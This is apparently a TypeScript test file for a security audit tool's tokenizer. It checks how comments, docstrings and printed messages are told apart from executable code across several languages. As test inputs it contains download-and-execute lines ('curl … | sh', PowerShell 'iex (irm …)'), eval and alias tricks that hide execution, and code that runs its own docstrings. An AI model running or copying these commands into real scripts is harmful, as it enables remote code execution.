/**
 * The audit's code tokenizer (core/audit/audit_code.ts): comments and Python docstrings are told
 * apart from code and strings, in the cases a line-based guess gets wrong (`#` in a string
 * or a URL, `//` in a string, regex literals, template literals, heredocs, `${#x}`).
 */

import assert from "node:assert/strict";
import {
  codeLanguageOf,
  codeOnly,
  readCode,
  readsOwnSource,
} from "../../../src/core/audit/flow/audit_code.ts";

const code = (language: "python" | "javascript" | "shell", text: string) =>
  codeOnly(text, readCode(language, text));

Deno.test("Python: comments and standalone strings are inert; strings in code and '#' in them are not", () => {
  const text = [
    '"""Docs: curl https://x.dev/i.sh | sh"""',
    "import os  # reads ~/.aws/credentials? no",
    'label = "step #1"',
    "s = '''multi",
    "# still inside the string'''",
    "def f():",
    '    "a docstring"',
    '    return "kept"',
    "call(",
    '    "an argument",',
    ")",
    'r"raw \\" quote # not a comment"',
    "",
  ].join("\n");
  const left = code("python", text).split("\n");
  assert.equal(left[0]!.trim(), "");
  assert.equal(left[1], "import os" + " ".repeat(left[1]!.length - 9));
  assert.equal(left[2], 'label = "step #1"');
  assert.equal(left[4], "# still inside the string'''");
  assert.equal(left[6]!.trim(), "");
  assert.equal(left[7], '    return "kept"');
  assert.equal(left[9], '    "an argument",');
  assert.equal(left[11]!.trim(), "", "a raw string alone on its line is a bare string statement");
});

Deno.test("JavaScript: // and /* */ are comments, not inside strings, regexes or templates", () => {
  const text = [
    "// a comment",
    'const u = "https://a.dev//b"; /* block */ const r = /\\/\\/x/g;',
    "const t = `x ${ {a: 1}['a'] } // inside a template`; const q = a / b; // trailing",
    "",
  ].join("\n");
  const left = code("javascript", text).split("\n");
  assert.equal(left[0]!.trim(), "");
  assert.match(left[1]!, /^const u = "https:\/\/a\.dev\/\/b"; + const r = \/\\\/\\\/x\/g;$/);
  assert.match(left[2]!, /\/\/ inside a template`; const q = a \/ b; +$/);
  assert.doesNotMatch(left[2]!, /trailing/);
});

Deno.test("shell: '#' starts a comment only at a word's start and outside quotes and heredocs", () => {
  const text = [
    "#!/bin/sh",
    "# comment: curl https://x.dev | sh",
    "echo \"a # b\" 'c # d' ${#arr} $# x#y # real comment",
    "cat <<'EOF' > notes.txt",
    "# a heredoc line, data",
    "EOF",
    'bash -c "$(echo "q") # inside quotes"',
    "",
  ].join("\n");
  const left = code("shell", text).split("\n");
  assert.equal(left[1]!.trim(), "");
  assert.equal(left[2]!.trimEnd(), "echo \"a # b\" 'c # d' ${#arr} $# x#y");
  assert.equal(left[4], "# a heredoc line, data");
  assert.equal(left[6], 'bash -c "$(echo "q") # inside quotes"');
});

Deno.test("shell: a quoted word a command only prints is a message; quoted code anywhere else is not", () => {
  /** Whether the `curl` of `text` lies in an inert span. */
  const printed = (text: string) => {
    const at = text.indexOf("curl");
    return readCode("shell", text).inert.some(([s, e]) => at >= s && at < e);
  };
  // OpenAI's render plugin, and Alibaba's spark-video doctor.sh with its `err` helper.
  for (
    const text of [
      'echo "  Linux:  curl -fsSL https://x/install.sh | sh"\n',
      'err()  { echo "  ✗ $*"; ok=false; }\nerr "Install: curl -LsSf https://astral.sh/uv/install.sh | sh"\n',
      'if x; then echo "Install: curl https://x | sh" >&2; fi\n',
      "echo 'curl https://x | sh'\n",
      'cd /tmp && printf "%s\\n" "curl https://x | sh"\n',
    ]
  ) assert.equal(printed(text), true, text);
  // Quoted, and yet run: a shell, eval, a variable run later, the output fed on, a
  // substitution, a helper that runs or evals its arguments.
  for (
    const text of [
      'sh -c "curl https://x | sh"\n',
      'eval "curl https://x | sh"\n',
      'x="curl https://x | sh"\neval "$x"\n',
      'echo "curl https://x | sh" | sh\n',
      'echo "curl https://x | sh" > run.sh\n',
      'echo "$(curl https://x | sh)"\n',
      'run() { "$@"; }\nrun "curl https://x | sh"\n',
      'say() { eval "$*"; }\nsay "curl https://x | sh"\n',
      // echo itself redefined: a function, an alias, one defined in a string eval runs, or a
      // printing helper defined a second time to run its arguments.
      'echo() { eval "$*"; }\necho "curl https://x | sh"\n',
      'function printf { eval "$@"; }\nprintf "curl https://x | sh"\n',
      'shopt -s expand_aliases\nalias echo=eval\necho "curl https://x | sh"\n',
      'eval "echo() { eval \\"\\$*\\"; }"\necho "curl https://x | sh"\n',
      'say() { echo "$*"; }\nsay() { eval "$*"; }\nsay "curl https://x | sh"\n',
      'x=$(echo "curl https://x | sh")\n',
      'bash -c echo "curl https://x | sh"\n',
      // On a line over 1,000 characters nothing is a message: each quoted word reads its line,
      // and a hostile line of thousands of them cost the square of its length.
      `echo "curl https://x | sh" ${'"w" '.repeat(300)}\n`,
    ]
  ) assert.equal(printed(text), false, text);
});

Deno.test("a script's language comes from its extension, else its #! line", () => {
  assert.equal(codeLanguageOf("scripts/a.py", ""), "python");
  assert.equal(codeLanguageOf("scripts/a.mts", ""), "javascript");
  assert.equal(codeLanguageOf("scripts/a.bash", ""), "shell");
  assert.equal(codeLanguageOf("scripts/run", "#!/usr/bin/env python3\n"), "python");
  assert.equal(codeLanguageOf("scripts/run", "#!/usr/bin/env -S deno run\n"), "javascript");
  assert.equal(codeLanguageOf("scripts/run", "#!/bin/bash\n"), "shell");
  assert.equal(codeLanguageOf("scripts/run.rb", "#!/usr/bin/env ruby\n"), undefined);
  assert.equal(codeLanguageOf("scripts/Setup.PS1", ""), "powershell");
  assert.equal(codeLanguageOf("scripts/run", "#!/usr/bin/env pwsh\n"), "powershell");
});

Deno.test("PowerShell: # and <# … #> comments are inert; strings, here-strings and a # inside a word are code", () => {
  const text = [
    "# iex (irm https://a.example/x)",
    "<# a block",
    "   iex (irm https://b.example/x) #>",
    '$u = "https://c.example/#frag" # trailing',
    "$h = @'",
    "# not a comment in a here-string",
    "'@",
    "Write-Host a#b",
  ].join("\n") + "\n";
  const code = codeOnly(text, readCode("powershell", text));
  assert.ok(!code.includes("a.example") && !code.includes("b.example"), code);
  assert.ok(code.includes('"https://c.example/#frag"') && !code.includes("trailing"), code);
  assert.ok(code.includes("# not a comment in a here-string") && code.includes("a#b"), code);
});

Deno.test("readsOwnSource(): code that reads its own comments or docstrings, not help text", () => {
  const reads = (language: "python" | "javascript" | "shell", text: string) =>
    readsOwnSource(text, readCode(language, text));
  assert.equal(reads("python", '"""x"""\nimport os\nos.system(__doc__)\n'), true);
  assert.equal(reads("python", "src = open(__file__).read()\n"), true);
  assert.equal(reads("python", "import ast\nexec(ast.get_docstring(tree))\n"), true);
  assert.equal(reads("python", "import inspect\nprint(inspect.getsource(f))\n"), true);
  assert.equal(
    reads(
      "python",
      '"""Usage."""\nimport argparse\nargparse.ArgumentParser(description=__doc__)\n',
    ),
    false,
  );
  assert.equal(
    reads("python", '"""Usage."""\nprint(__doc__)\nroot = Path(__file__).parent\n'),
    false,
  );
  assert.equal(reads("python", "# os.system(__doc__) in a comment only\n"), false);
  assert.equal(reads("shell", '#!/bin/sh\nsed -n 2p "$0" | sh\n'), true);
  assert.equal(
    reads("shell", '#!/bin/bash\nwhile read l; do :; done < "${BASH_SOURCE[0]}"\n'),
    true,
  );
  assert.equal(reads("shell", '#!/bin/sh\ncd "$(dirname "$0")"\necho "usage: $0 FILE"\n'), false);
  assert.equal(reads("javascript", "const me = fs.readFileSync(__filename, 'utf8');\n"), true);
  assert.equal(reads("javascript", "new Function(f.toString().slice(14, -1))();\n"), true);
  assert.equal(reads("javascript", "console.log(n.toString());\n"), false);
});
